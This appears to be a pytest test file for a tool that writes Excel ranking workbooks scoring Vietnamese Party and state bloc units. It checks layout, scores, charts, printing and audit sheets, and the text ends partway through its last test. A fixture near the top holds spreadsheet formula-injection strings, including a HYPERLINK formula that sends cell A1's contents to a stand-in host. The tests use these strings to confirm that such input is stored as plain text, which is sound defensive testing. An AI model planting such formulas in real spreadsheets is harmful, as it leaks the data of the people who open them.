"""The ranking workbook, read back with openpyxl the way a reviewer would check it, cell by cell."""

from __future__ import annotations

import hashlib
import json
import re
import zipfile
from dataclasses import dataclass, replace
from datetime import datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter, range_boundaries
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from pipeline.core.issues import SEVERITY
from pipeline.core.labels import text
from pipeline.core.moments import in_vietnam
from pipeline.core.numbers import SECTION_DECIMALS, rounded
from pipeline.forms.template import FilledValue, write_template
from pipeline.outputs import workbook as workbook_module
from pipeline.outputs.letterhead import STATE_RULE_CHARACTER
from pipeline.outputs.results_json import results_dict
from pipeline.outputs.workbook import RankingColumns, number_format, safe_sheet_name, write_workbook
from pipeline.outputs.workbook.context import AWARD_FILLS, CHANGED_FILL
from pipeline.outputs.write import write_outputs
from pipeline.outputs.xlsx import row_height
from pipeline.rules.layout import template_filename
from pipeline.rules.model import Rules
from pipeline.run import RunOptions, RunResult, run
from pipeline.workspace.folders import Workspace
from tests import builders
from tests.conftest import FULL_SMALL, SAMPLE_BLOC, SAMPLE_INPUT, SMALL_RULES, rules_from, values

# Text a unit might type that a spreadsheet would run as a formula if written carelessly.
INJECTIONS = {
    "1.1": '=HYPERLINK("http://example.invalid/?"&A1,"bấm vào đây")',
    "2.1": "+1+2",
    "B1": "-3 điểm do chậm",
    "D1": "@SUM(A1:A9)",
}


@dataclass
class Written:
    """One run written to disk and read back: the library's result, the JSON and the workbook."""

    result: RunResult
    json: dict[str, Any]
    book: Workbook
    path: Path

    def sheet(self, key: str) -> Worksheet:
        return self.book[text(self.result.lang, f"workbook.sheet_{key}")]

    @property
    def ranking(self) -> Worksheet:
        return self.sheet("ranking")

    def t(self, key: str, **params: Any) -> str:
        return text(self.result.lang, key, **params)


def _fill(rules: Rules, folder: Path, unit_code: str, filled: dict[str, FilledValue]) -> None:
    unit = rules.unit(unit_code)
    assert unit is not None
    folder.mkdir(parents=True, exist_ok=True)
    write_template(rules, unit, folder / template_filename(rules, unit), filled=filled)


def write_run(rules: Rules, folder: Path, filled: dict[str, dict[str, FilledValue]], *, lang: str | None = None,
              appraisals: dict[str, dict[str, Any]] | None = None) -> Written:
    """The units' files, then the bloc's appraisal workbook filled with `appraisals` (if any), run and written."""
    for unit_code, unit_values in filled.items():
        _fill(rules, folder / "input", unit_code, unit_values)
    if appraisals:
        builders.appraise(rules, folder / "input", appraisals)
    # The bloc's folder only where the bloc appraised: a run that names none looks for no key either.
    inbox = folder / "input"
    bloc = builders.records_of(inbox) if appraisals else None
    result = run(rules, Workspace(input=inbox, bloc=bloc), RunOptions(lang=lang))
    written = write_outputs(result, folder / "output")
    workbook_path, json_path = written.workbook, written.results
    return Written(result, json.loads(json_path.read_text(encoding="utf-8")), load_workbook(workbook_path),
                   workbook_path)


def small_bloc() -> dict[str, dict[str, FilledValue]]:
    """A: appraised down on 1.1, bonus capped, injection-looking evidence. B: N/A rescaled, a deduction.
    C: a score above its max, so invalid. D: sends nothing."""
    a = values(**{**FULL_SMALL, "B1": 2, "B2": 2})
    a["1.1"] = FilledValue(a["1.1"].self_score, None, INJECTIONS["1.1"])
    a["2.1"] = FilledValue(a["2.1"].self_score, None, INJECTIONS["2.1"])
    a["B1"] = FilledValue(a["B1"].self_score, None, INJECTIONS["B1"])
    b = values(**{**FULL_SMALL, "1.2": "N/A", "D1": 0.5})
    b["D1"] = FilledValue(b["D1"].self_score, None, INJECTIONS["D1"])
    c = values(**{**FULL_SMALL, "1.1": 25})
    return {"A": a, "B": b, "C": c}


# The bloc's appraisal of the small bloc: A's 1.1 down from 18 to 17.
SMALL_APPRAISALS = {"A": {"1.1": (17, "Biên bản kiểm tra chưa đủ")}}


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Written:
    return write_run(rules_from(), tmp_path_factory.mktemp("small"), small_bloc(), appraisals=SMALL_APPRAISALS)


@pytest.fixture(scope="module")
def complete(tmp_path_factory: pytest.TempPathFactory) -> Written:
    """Every unit scored: the ranking is final."""
    rules = rules_from(units=SMALL_RULES["units"][:2])
    filled = {"A": values(**{**FULL_SMALL, "1.1": 20}), "B": values(**FULL_SMALL)}
    return write_run(rules, tmp_path_factory.mktemp("complete"), filled, lang="vi")


@pytest.fixture(scope="module")
def sample_written(sample_rules: Rules, tmp_path_factory: pytest.TempPathFactory) -> Written:
    """The shipped sample (nine units of a Party bloc), as `bloc-score run` writes it."""
    result = run(sample_rules, Workspace(input=SAMPLE_INPUT, bloc=SAMPLE_BLOC))
    written = write_outputs(result, tmp_path_factory.mktemp("sample"))
    workbook_path, json_path = written.workbook, written.results
    return Written(result, json.loads(json_path.read_text(encoding="utf-8")), load_workbook(workbook_path),
                   workbook_path)


def header_row(sheet: Worksheet, first_label: str) -> int:
    """The 1-based row whose first cell is `first_label` (the table header)."""
    return next(row[0].row for row in sheet.iter_rows(max_col=1) if row[0].value == first_label)


def ranking_rows(written: Written) -> list[tuple]:
    sheet = written.ranking
    start = header_row(sheet, written.t("report.rank")) + 1
    rows = []
    for row in sheet.iter_rows(min_row=start, values_only=True):
        if not isinstance(row[0], int):
            break
        rows.append(row)
    return rows


# ------------------------------------------------------------------------------------------ structure

def test_sheets_come_in_order_ranking_first(small):
    t = small.t
    assert small.book.sheetnames == [t("workbook.sheet_ranking"), t("workbook.sheet_chart"),
                                     t("workbook.sheet_matrix"), "A", "B", "C",
                                     t("workbook.sheet_issues"), t("workbook.sheet_audit")]
    assert small.book.active.title == t("workbook.sheet_ranking")


def test_a_unit_sheet_never_takes_the_name_of_a_fixed_sheet():
    assert safe_sheet_name("Issues", ["Ranking"]) == "Issues"
    assert safe_sheet_name("issues", ["Ranking", "Issues"]) == "issues (2)"
    assert safe_sheet_name("a/b:c*?[d]", []) == "a_b_c___d_"
    assert len(safe_sheet_name("x" * 40, [])) == 31


# ---------------------------------------------------------------------------------- parity with JSON

def test_ranking_rows_equal_the_json_and_the_library(small):
    columns = RankingColumns(len(small.result.rules.sections))
    by_code = {u["code"]: u for u in small.json["units"]}
    rows = ranking_rows(small)
    assert len(rows) == len(small.result.ranked) == 2
    decimals = small.result.rules.decimals
    for row, placed in zip(rows, small.result.ranked, strict=True):
        unit = by_code[placed.unit_code]
        score = placed.score
        assert row[0] == unit["rank"] == placed.rank
        assert row[1] == unit["name"]
        sections = row[columns.base - len(score.sections):columns.base]
        assert list(sections) == list(unit["sections"].values()) == [
            rounded(s.score, SECTION_DECIMALS) for s in score.sections]
        assert row[columns.base] == unit["base"] == rounded(score.base, decimals)
        assert row[columns.bonus] == unit["bonus"] == rounded(score.bonus, decimals)
        assert row[columns.deductions] == unit["deductions"] == rounded(score.deductions, decimals)
        assert row[columns.total] == unit["total"] == float(score.total)
        assert row[columns.classification] == unit["classification"] == placed.classification
        expected_award = small.t(f"award.{unit['award']}") if unit["award"] else ""
        assert (row[columns.award] or "") == expected_award


def test_the_sample_workbook_equals_its_json(sample_written):
    rows = ranking_rows(sample_written)
    ranked = [u for u in sample_written.json["units"] if u["rank"] is not None]
    assert [r[1] for r in rows] == [u["name"] for u in sorted(ranked, key=lambda u: u["rank"])]
    columns = RankingColumns(len(sample_written.result.rules.sections))
    assert [r[columns.total] for r in rows] == [u["total"] for u in sorted(ranked, key=lambda u: u["rank"])]


def unit_summary(sheet: Worksheet, written: Written) -> dict[str, Any]:
    """The figures of a unit sheet's score summary, by section code or label."""
    found: dict[str, Any] = {}
    labels = {written.t(f"report.{key}"): key for key in ("bonus", "deductions", "base", "total", "rank")}
    section_codes = {s.code for s in written.result.rules.sections}
    for row in sheet.iter_rows(min_row=4, values_only=True):
        if row[0] == written.t("column.code") and found:
            break  # the criterion table starts
        if row[0] in section_codes and row[0] not in found:
            found[row[0]] = row[5]
        key = labels.get(row[0]) or labels.get(row[1])
        if key and key not in found:
            found[key] = row[5]
    return found


def test_unit_sheets_show_the_same_scores_as_the_json(small):
    for unit in small.json["units"]:
        if unit["status"] != "scored":
            continue
        summary = unit_summary(small.book[unit["code"]], small)
        assert {code: summary[code] for code in unit["sections"]} == unit["sections"]
        assert summary["base"] == unit["base"]
        assert summary["bonus"] == unit["bonus"]
        assert summary["deductions"] == unit["deductions"]
        assert summary["total"] == unit["total"]
        assert summary["rank"] == unit["rank"]


def test_the_chart_data_equal_the_json(small):
    sheet = small.sheet("chart")
    start = header_row(sheet, small.t("report.rank")) + 1
    by_code = {u["name"]: u for u in small.json["units"]}
    sections = len(small.result.rules.sections)
    rows = [r for r in sheet.iter_rows(min_row=start, values_only=True) if isinstance(r[0], int)]
    assert len(rows) == 2
    for row in rows:
        unit = by_code[row[1]]
        assert list(row[2:2 + sections]) == list(unit["sections"].values())
        assert row[2 + sections] == unit["bonus"]
        assert row[3 + sections] == unit["deductions"]  # as the Ranking sheet prints them: points taken off
        assert row[4 + sections] == unit["total"]


def chart_xml(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [archive.read(name).decode("utf-8") for name in sorted(archive.namelist())
                if name.startswith("xl/charts/chart")]


def test_the_chart_shows_labelled_totals_best_first_on_an_axis_near_the_lowest_total(small):
    charts = chart_xml(small.path)
    totals = charts[0]  # the Chart sheet's; the unit sheets' profiles follow
    assert '<c:barDir val="bar"/>' in totals and '<c:grouping val="stacked"/>' not in totals
    assert '<c:orientation val="maxMin"/>' in totals  # rank 1 at the top
    assert '<c:showVal val="1"/>' in totals  # each bar carries its total
    lowest = min(float(r.score.total) for r in small.result.ranked)
    highest = max(float(r.score.total) for r in small.result.ranked)
    axis_min = float(re.search(r'<c:valAx>.*?<c:min val="([-0-9.]+)"/>', totals, re.S).group(1))
    axis_max = float(re.search(r'<c:valAx>.*?<c:max val="([-0-9.]+)"/>', totals, re.S).group(1))
    assert 0 <= axis_min < lowest and highest < axis_max  # not from −10 or 0: the differences show
    assert len(re.findall("<c:ser>", totals)) == 1
    # one profile per ranked unit: the unit against the bloc average
    assert len(charts) == 1 + len(small.result.ranked)
    assert all(len(re.findall("<c:ser>", c)) == 2 for c in charts[1:])


# ------------------------------------------------------------------------------------- what it says

def test_provisional_banner_only_when_provisional(small, complete):
    banner = small.t("report.provisional", missing=1, invalid=1)
    assert small.result.provisional
    assert banner in [c.value for c in small.ranking["A"]]
    assert not complete.result.provisional
    shown = " ".join(str(c.value) for row in complete.ranking.iter_rows() for c in row if c.value)
    assert "TẠM THỜI" not in shown


def test_unranked_units_are_listed_below_with_their_reason(small):
    sheet = small.ranking
    start = header_row(sheet, small.t("report.unit_code"))
    listed = {row[0]: row for row in sheet.iter_rows(min_row=start + 1, max_row=start + 2, values_only=True)}
    assert set(listed) == {"C", "D"}
    status_column = 2
    reason_column = 2 + max(1, len(small.result.rules.sections) // 2) + 1
    assert listed["C"][status_column] == small.t("status.invalid")
    assert listed["D"][status_column] == small.t("status.missing")
    above_max = next(i for i in small.result.issues if i.unit == "C" and i.code == "score-above-max")
    assert listed["C"][reason_column].startswith(above_max.message("en"))
    missing = next(i for i in small.result.issues if i.unit == "D" and i.code == "unit-missing")
    assert listed["D"][reason_column] == missing.message("en")
    ranked_names = [r[1] for r in ranking_rows(small)]
    assert "Đơn vị C" not in ranked_names and "Đơn vị D" not in ranked_names


def test_award_rows_are_highlighted(small):
    sheet = small.ranking
    start = header_row(sheet, small.t("report.rank")) + 1
    for offset, placed in enumerate(small.result.ranked):
        fill = sheet.cell(start + offset, 2).fill.fgColor.rgb
        if placed.award:
            assert fill.endswith(AWARD_FILLS[placed.award].lstrip("#"))
        else:
            assert fill in (None, "00000000")


def test_totals_have_a_colour_scale(small):
    columns = RankingColumns(len(small.result.rules.sections))
    ranges = {str(r.sqref): r.rules for r in small.ranking.conditional_formatting}
    letter = get_column_letter(columns.total + 1)
    (cell_range, rules), = ranges.items()
    assert cell_range.startswith(letter) and rules[0].type == "colorScale"


def test_legend_names_tie_breakers_in_words(small):
    shown = [str(c.value) for c in small.ranking["A"] if c.value]
    line = next(s for s in shown if "Where totals are equal, in turn" in s)
    assert "section:" not in line
    assert "a higher Section I; fewer deductions; more bonus" in line


def test_title_block_party_and_state(small, tmp_path):
    assert small.ranking["A1"].value == small.result.rules.issuer.upper()
    assert small.ranking["A2"].value == "*"  # Party documents put a star under the issuer
    right = next(c for c in small.ranking[1] if c.column > 1 and c.value)
    assert "COMMUNIST PARTY OF VIETNAM" in str(right.value)
    # The Party's form: the place and date straight under ĐẢNG CỘNG SẢN VIỆT NAM, the number under the star.
    assert [str(c.value) for c in small.ranking[2] if c.value] == ["*",
                                                                  small.t("letterhead.place_date_blank", place="…")]
    assert [str(c.value) for c in small.ranking[3] if c.value] == ["No. ……-BC/……"]
    # The signing date is written by hand: never the run's date.
    header = " ".join(str(c.value) for row in small.ranking.iter_rows(max_row=4) for c in row if c.value)
    assert small.result.started_at.strftime("%B") not in header

    state = write_run(rules_from(header="state", language="vi", place="Quảng Trị", parent="Ủy ban nhân dân tỉnh"),
                      tmp_path, {"A": values(**FULL_SMALL)})
    assert state.ranking["A1"].value == "ỦY BAN NHÂN DÂN TỈNH"  # the upper-level body above the issuer
    rule = state.ranking["A3"].value
    assert set(rule) == {STATE_RULE_CHARACTER}  # a short solid rule, not dashes
    header = " ".join(str(c.value) for row in state.ranking.iter_rows(max_row=2) for c in row if c.value)
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in header and "Độc lập - Tự do - Hạnh phúc" in header
    number_row = [str(c.value) for c in state.ranking[4] if c.value]
    assert number_row == ["Số: ……-BC/……", "Quảng Trị, ngày … tháng … năm 20…"]
    titles = [c.value for c in state.ranking["A"]]
    assert "BÁO CÁO" in titles and text("vi", "report.summary", year=2024) in titles  # a report of its own


def test_signature_block_of_the_bloc_leader_with_room_to_sign(complete):
    shown = [c.value for row in complete.ranking.iter_rows() for c in row if c.value]
    for key in ("capacity_party", "position_leader"):
        assert complete.t(f"letterhead.{key}") in shown
    assert complete.t("letterhead.draft") not in shown  # every unit scored: final


def test_a_provisional_ranking_is_a_draft_with_no_signature_block(small):
    assert small.result.provisional
    shown = [c.value for row in small.ranking.iter_rows() for c in row if c.value]
    assert small.t("letterhead.draft") in shown
    for key in ("capacity_party", "position_leader"):
        assert small.t(f"letterhead.{key}") not in shown


def test_matrix_lists_criteria_down_units_across_marks_appraisal_changes_and_na(small):
    sheet = small.sheet("matrix")
    rules = small.result.rules
    head = header_row(sheet, small.t("column.code"))
    header = [c.value for c in sheet[head]]
    assert header[1:3] == [small.t("column.criterion"), small.t("column.max")]
    assert header[3:] == [u.code for u in rules.units if u.code in small.result.validation.used]
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=head + 1) if r[0].value}
    for criterion in rules.criteria():
        assert rows[criterion.code][1].value == criterion.title  # printed: no hovering on paper
        assert rows[criterion.code][2].value == float(criterion.max)

    def cell(unit: str, code: str):
        return rows[code][header.index(unit)]

    changed = CHANGED_FILL.lstrip("#")
    assert cell("A", "1.1").value == 17  # appraised 17 over the self-score 18
    assert cell("A", "1.1").fill.fgColor.rgb.endswith(changed)
    assert "18" in cell("A", "1.1").comment.text
    assert not (cell("A", "2.1").fill.fgColor.rgb or "").endswith(changed)
    assert cell("B", "1.2").value == "N/A"
    assert cell("C", "1.1").value == 25  # an invalid unit's figures are still shown, as read
    # Section headings group the criteria; the units' names are printed under the table.
    assert any(str(c.value).startswith(f"{rules.sections[0].code}. ") for c in sheet["A"])
    assert any("A: Đơn vị A" in str(c.value) for c in sheet["A"])


def test_unit_sheet_explains_rescaling_and_caps(small):
    b_notes = [str(c.value) for row in small.book["B"].iter_rows() for c in row if c.value]
    assert any(n.startswith("N/A: 1.2; 18 of 20 applicable points scaled to 30") for n in b_notes)
    a_notes = [str(c.value) for row in small.book["A"].iter_rows() for c in row if c.value]
    assert "entered 4, counted 3 (cap)" in a_notes


def test_unit_sheet_lists_criteria_with_evidence_and_its_issues(small):
    sheet = small.book["C"]
    shown = [c.value for row in sheet.iter_rows() for c in row if c.value is not None]
    assert small.t("workbook.unit_issues") in shown
    above_max = next(i for i in small.result.issues if i.unit == "C" and i.code == "score-above-max")
    assert above_max.message("en") in shown
    a = [c.value for row in small.book["A"].iter_rows() for c in row if c.value is not None]
    assert INJECTIONS["1.1"] in a


# ----------------------------------------------------------------------------------- truthful cells

def test_text_from_submissions_is_text_never_a_formula(small):
    found = {}
    for sheet in small.book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in INJECTIONS.values():
                    found[cell.value] = cell.data_type
    assert set(found) == set(INJECTIONS.values())
    assert set(found.values()) == {"s"}
    with zipfile.ZipFile(small.path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode("utf-8"), name


def test_a_score_typed_as_a_formula_is_shown_as_the_text_it_is(tmp_path):
    written = write_run(rules_from(), tmp_path, {"A": values(**{**FULL_SMALL, "2.2": "=1+1"})})
    sheet = written.sheet("matrix")
    cells = [c for row in sheet.iter_rows() for c in row if c.value == "=1+1"]
    assert cells and all(c.data_type == "s" for c in cells)


def test_scores_are_numbers_with_the_rules_decimals(small):
    columns = RankingColumns(len(small.result.rules.sections))
    sheet = small.ranking
    start = header_row(sheet, small.t("report.rank")) + 1
    for row in sheet.iter_rows(min_row=start, max_row=start + len(small.result.ranked) - 1):
        assert row[0].number_format == "0"
        for cell in row[2:columns.total + 1]:
            assert isinstance(cell.value, int | float), cell.coordinate
            assert cell.number_format == "0.00", cell.coordinate


@pytest.mark.parametrize(("decimals", "expected"), [(0, "0"), (1, "0.0"), (3, "0.000")])
def test_number_format_follows_the_rules_decimals(decimals, expected):
    assert number_format(decimals) == expected


def test_one_decimal_rules_show_one_decimal(tmp_path):
    written = write_run(rules_from(decimals=1), tmp_path, {"A": values(**FULL_SMALL)})
    columns = RankingColumns(2)
    start = header_row(written.ranking, written.t("report.rank")) + 1
    assert written.ranking.cell(start, columns.total + 1).number_format == "0.0"
    matrix = written.sheet("matrix")
    (first,) = (r[3] for r in matrix.iter_rows() if r[0].value == "1.1")
    assert first.number_format == "0.0"


def test_times_new_roman_throughout(small):
    for sheet in small.book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.font.name == "Times New Roman", f"{sheet.title}!{cell.coordinate}"
    for chart in chart_xml(small.path):
        assert 'typeface="Times New Roman"' in chart


# ---------------------------------------------------------------------------------------- printing

def test_every_sheet_prints_on_a4_landscape_one_page_wide(small):
    for sheet in small.book.worksheets:
        setup = sheet.page_setup
        assert setup.orientation == "landscape", sheet.title
        assert int(setup.paperSize) == 9, sheet.title
        if sheet.sheet_properties.pageSetUpPr.fitToPage:
            assert (setup.fitToWidth or 1) == 1, sheet.title  # 1 is the OOXML default, left unwritten
        else:  # a fixed scale, a little under the fitted one, that saves a page holding a stray block
            assert 73 <= setup.scale < 100 and sheet.row_breaks.brk, sheet.title
        assert "&P" in sheet.oddFooter.center.text, sheet.title


def test_ranking_print_setup(complete):
    small = complete
    sheet = small.ranking
    head = header_row(sheet, small.t("report.rank"))
    # As many pages tall as the rows need (xlsx.pages_tall), never one for a stray signature line: here one.
    assert int(sheet.page_setup.fitToHeight or 1) == 1  # 1 is the default, left out
    assert sheet.print_title_rows == f"${head}:${head}"
    assert sheet.oddFooter.center.text.endswith(small.t("workbook.page_footer", page="&P", pages="&N"))
    assert sheet.freeze_panes == f"C{head + 1}"
    # The printed page holds every column written and ends below the leader's signature line.
    first_column, first_row, last_column, last_row = range_boundaries(sheet.print_area.split("!")[1])
    assert (first_column, first_row, last_column) == (1, 1, sheet.max_column)
    leader = small.t("letterhead.position_leader")
    signatures = next(c.row for row in sheet.iter_rows() for c in row if c.value == leader)
    assert last_row > signatures + 1  # the "(signature and seal)" line, and room to sign


def test_frozen_headers_and_autofilter(small):
    matrix = small.sheet("matrix")
    head = header_row(matrix, small.t("column.code"))
    assert matrix.freeze_panes == f"D{head + 1}"
    assert matrix.print_title_rows == f"${head}:${head}"
    issues = small.sheet("issues")
    assert issues.freeze_panes == "A2"
    assert issues.auto_filter.ref == f"A1:I{len(small.result.issues) + 1}"
    assert issues.print_title_rows == "$1:$1"


def test_issues_sheet_lists_every_issue(small):
    sheet = small.sheet("issues")
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [(r[2], r[6] or None, r[8]) for r in rows] == [
        (i["code"], i["unit"], i["message"]) for i in small.json["issues"]]


def test_issues_sheet_names_each_code_in_the_readers_language(small, tmp_path):
    headers = [c.value for c in small.sheet("issues")[1]]
    assert headers[:3] == [small.t("workbook.issue_severity"), small.t("workbook.issue_kind"),
                           small.t("workbook.issue_code")]
    rows = list(small.sheet("issues").iter_rows(min_row=2, values_only=True))
    assert all(r[1] == small.t(f"issue_kind.{r[2]}") for r in rows)
    vi = write_run(rules_from(language="vi"), tmp_path, small_bloc(), appraisals=SMALL_APPRAISALS)
    issues = vi.sheet("issues")
    assert [c.value for c in issues[1]][4] == "Trang tính"  # a sheet, not a printed page
    shown = {(r[0], r[1], r[2]) for r in issues.iter_rows(min_row=2, values_only=True)}
    assert ("lỗi", "Điểm vượt mức tối đa", "score-above-max") in shown


def test_every_issue_code_has_a_short_name_in_both_languages():
    for code in SEVERITY:
        for lang in ("vi", "en"):
            assert text(lang, f"issue_kind.{code}").strip(), (lang, code)


def test_rows_grow_to_fit_long_unit_names(tmp_path):
    long_name = ("Đảng ủy Khối các cơ quan và doanh nghiệp tỉnh, Ủy ban Mặt trận Tổ quốc và các đoàn thể "
                 "chính trị - xã hội")
    units = [{"code": "A", "name": long_name}, {"code": "B", "name": "Đơn vị B"}]
    written = write_run(rules_from(units=units), tmp_path, {"A": values(**FULL_SMALL), "B": values(**FULL_SMALL)})
    start = header_row(written.ranking, written.t("report.rank")) + 1
    heights = {written.ranking.cell(r, 2).value: written.ranking.row_dimensions[r].height for r in (start, start + 1)}
    assert heights[long_name] >= 2 * row_height(1)  # wrapped on at least two lines
    assert written.ranking.cell(start, 2).alignment.wrap_text


# ------------------------------------------------------------------------------------------- audit

def test_audit_records_rules_inputs_tool_and_time(small):
    sheet = small.sheet("audit")
    cells = {row[0]: row[1] for row in sheet.iter_rows(values_only=True) if row[0] is not None}
    rules = small.result.rules
    assert cells[small.t("workbook.audit_rules_file")] == rules.source
    assert cells[small.t("workbook.audit_fingerprint")] == rules.fingerprint == small.json["rules"]["fingerprint"]
    assert cells[small.t("workbook.audit_tool")] == f"bloc-score {small.json['tool_version']}"
    run_at = cells[small.t("workbook.audit_run_at")]
    assert isinstance(run_at, datetime)
    # The JSON's moment, in Vietnam's time (core.moments): Excel dates carry no zone.
    assert run_at == in_vietnam(datetime.fromisoformat(small.json["generated_at"])).replace(tzinfo=None)
    for entry in small.json["inputs"]:
        row = next(r for r in sheet.iter_rows(values_only=True) if r[0] == entry["file"])
        assert row[1] == entry["sha256"]
        assert row[2] == entry["size"]
        assert row[5] == datetime.fromisoformat(entry["modified"]).replace(tzinfo=None)
        assert row[3] == (entry["unit"] or "")
        if entry["kind"] == "appraisal":  # the bloc's appraisal workbook is on record too
            assert row[4] == small.t("workbook.audit_appraisal_used")


def test_audit_states_the_rules_in_force(small):
    shown = [c.value for row in small.sheet("audit").iter_rows() for c in row if c.value is not None]
    rules = small.result.rules
    for section in rules.sections:
        assert section.title in shown
    assert float(rules.bonus.cap) in shown and float(rules.deductions.cap) in shown
    for threshold in rules.classification:
        assert threshold.label in shown
    assert any(str(s).startswith("Emulation flag: no more than 1 unit") and "D2" in str(s) for s in shown)
    assert small.t("summary.breaker_deductions") in " ".join(map(str, shown))
    for criterion in rules.criteria():
        assert criterion.title in shown


def test_audit_shows_the_rules_files_sha256(tmp_path):
    rules_path = tmp_path / "rules.yaml"
    rules_path.write_text("# rules\n", encoding="utf-8")
    rules = replace(rules_from(), source=str(rules_path))
    _fill(rules, tmp_path / "input", "A", values(**FULL_SMALL))
    result = run(rules, builders.workspace(tmp_path / "input"))
    path = write_outputs(result, tmp_path / "output").workbook
    audit = load_workbook(path)[text("en", "workbook.sheet_audit")]
    cells = {row[0]: row[1] for row in audit.iter_rows(values_only=True)}
    assert cells[text("en", "workbook.audit_rules_sha256")] == hashlib.sha256(rules_path.read_bytes()).hexdigest()


# ---------------------------------------------------------------------------------------- language

def test_labels_follow_the_rules_language_or_the_override(small, complete):
    assert small.result.lang == "en" and small.ranking.title == "Ranking"
    assert complete.result.lang == "vi" and complete.ranking.title == "Xếp hạng"
    assert complete.ranking.cell(header_row(complete.ranking, "Xếp hạng"), 1).value == "Xếp hạng"
    assert results_dict(complete.result)["language"] == "vi"


# ------------------------------------------------------------------------------------- big blocs

def test_past_the_unit_sheet_limit_one_details_sheet(tmp_path, monkeypatch):
    monkeypatch.setattr(workbook_module, "MAX_UNIT_SHEETS", 1)
    written = write_run(rules_from(), tmp_path, {"A": values(**FULL_SMALL), "B": values(**FULL_SMALL)})
    names = written.book.sheetnames
    assert "A" not in names and text("en", "workbook.sheet_details") in names
    assert text("en", "workbook.sheet_matrix") not in names  # the Details table holds the same figures
    details = written.sheet("details")
    criteria = list(written.result.rules.criteria())
    # A row per unit and a column per criterion: it grows with the units, not with every cell they hold.
    header = next(details.iter_rows(min_row=3, max_row=3, values_only=True))
    assert list(header) == ["Code", "Unit", *(c.code for c in criteria)]
    maxima = next(details.iter_rows(min_row=2, max_row=2, values_only=True))
    assert maxima[1] == "Max points" and list(maxima[2:]) == [float(c.max) for c in criteria]
    rows = list(details.iter_rows(min_row=4, values_only=True))
    final = written.result.validation.final
    expected = dict(zip(final["criterion_code"][final["unit_code"] == "A"], final["value"][final["unit_code"] == "A"],
                        strict=True))
    assert [row[:2] for row in rows] == [("A", "Đơn vị A"), ("B", "Đơn vị B")]
    assert list(rows[0][2:]) == [float(expected[c.code]) if c.code in expected else None for c in criteria]
    assert len(expected) >= 4
    assert details.auto_filter.ref == f"A3:{get_column_letter(details.max_column)}5"  # every unit
    assert "results-2024.json" in details["C1"].value  # where the rest of each criterion is


def test_a_run_that_ranks_nobody_still_writes_a_workbook_that_says_why(tmp_path):
    written = write_run(rules_from(), tmp_path, {"A": values(**{**FULL_SMALL, "1.1": 25})})
    assert written.result.ranked == []
    assert ranking_rows(written) == []
    start = header_row(written.ranking, written.t("report.unit_code"))
    listed = [row[0] for row in written.ranking.iter_rows(min_row=start + 1, max_row=start + 4, values_only=True)]
    assert listed == ["A", "B", "C", "D"]
    assert chart_xml(written.path) == []  # no bars to draw


def test_details_table_marks_the_appraisal_changes(tmp_path, monkeypatch):
    monkeypatch.setattr(workbook_module, "MAX_UNIT_SHEETS", 1)
    written = write_run(rules_from(), tmp_path, {"A": values(**FULL_SMALL), "B": values(**FULL_SMALL)},
                        appraisals={"A": {"1.1": (16, "Báo cáo chưa đủ")}})
    details = written.sheet("details")
    rows = {r[0].value: r for r in details.iter_rows(min_row=4)}
    column = 2 + [c.code for c in written.result.rules.criteria()].index("1.1")
    assert rows["A"][column].value == 16  # the appraised score, which counts
    assert rows["A"][column].fill.fgColor.rgb.endswith("FCE4D6")
    assert rows["B"][column].value == 18 and not rows["B"][column].fill.fgColor.rgb.endswith("FCE4D6")


# ------------------------------------------------------------------------------ reads the run's result

def test_the_final_column_shows_the_runs_decision_never_its_own(small, tmp_path):
    """The final figure is the cell Validation.final names: a writer that re-derived it would show 17 here."""
    result = small.result
    entries, final = result.validation.entries, result.validation.final
    own = entries.index[(entries["unit_code"] == "A") & (entries["criterion_code"] == "1.1")
                        & (entries["scorer"] == "self")][0]
    row = (final["unit_code"] == "A") & (final["criterion_code"] == "1.1")
    decided_otherwise = final.copy()
    decided_otherwise.loc[row, ["scorer", "entry"]] = ["self", own]
    changed = replace(result, validation=replace(result.validation, final=decided_otherwise))
    sheet = load_workbook(write_workbook(changed, tmp_path / "w.xlsx"))["A"]
    a11 = next(r for r in sheet.iter_rows() if r[0].value == "1.1")
    assert [c.value for c in a11[3:6]] == [18, 17, 18]  # self, appraised as read; final as decided
    assert not (a11[5].fill.fgColor.rgb or "").endswith(CHANGED_FILL.lstrip("#"))


def test_writing_the_workbook_changes_nothing_in_the_result(small, tmp_path):
    result = small.result
    before = (result.validation.entries.copy(), result.validation.final.copy(), list(result.issues),
              dict(result.status), list(result.ranked), dict(result.validation.used))
    write_workbook(result, tmp_path / "again.xlsx")
    entries, final, issues, status, ranked, used = before
    pd.testing.assert_frame_equal(result.validation.entries, entries)
    pd.testing.assert_frame_equal(result.validation.final, final)
    assert (result.issues, result.status, result.ranked, result.validation.used) == (issues, status, ranked, used)


def test_a_long_bloc_prints_its_ranking_on_as_many_pages_as_it_needs_without_a_stray_last_page(tmp_path):
    units = [{"code": f"U{n:02d}", "name": f"Đơn vị số {n}"} for n in range(40)]
    written = write_run(rules_from(units=units), tmp_path, {u["code"]: values(**FULL_SMALL) for u in units})
    assert int(written.ranking.page_setup.fitToHeight) >= 2


def test_a_run_without_issues_hides_the_empty_issues_sheet_and_the_audit_says_so(complete):
    assert complete.result.issues == []
    issues = complete.sheet("issues")
    assert issues.sheet_state == "hidden"  # no printed page holding one line
    assert issues["A2"].value == complete.t("report.no_issues")
    facts = {row[0]: row[1] for row in complete.sheet("audit").iter_rows(values_only=True) if row[0]}
    assert facts[complete.t("workbook.audit_issues")] == complete.t("report.no_issues")


def test_a_40_unit_matrix_prints_across_page_widths_with_the_criteria_columns_repeated(tmp_path):
    units = [{"code": f"U{n:02d}", "name": f"Đơn vị số {n}"} for n in range(40)]
    written = write_run(rules_from(units=units), tmp_path, {u["code"]: values(**FULL_SMALL) for u in units})
    matrix = written.sheet("matrix")
    head = header_row(matrix, written.t("column.code"))
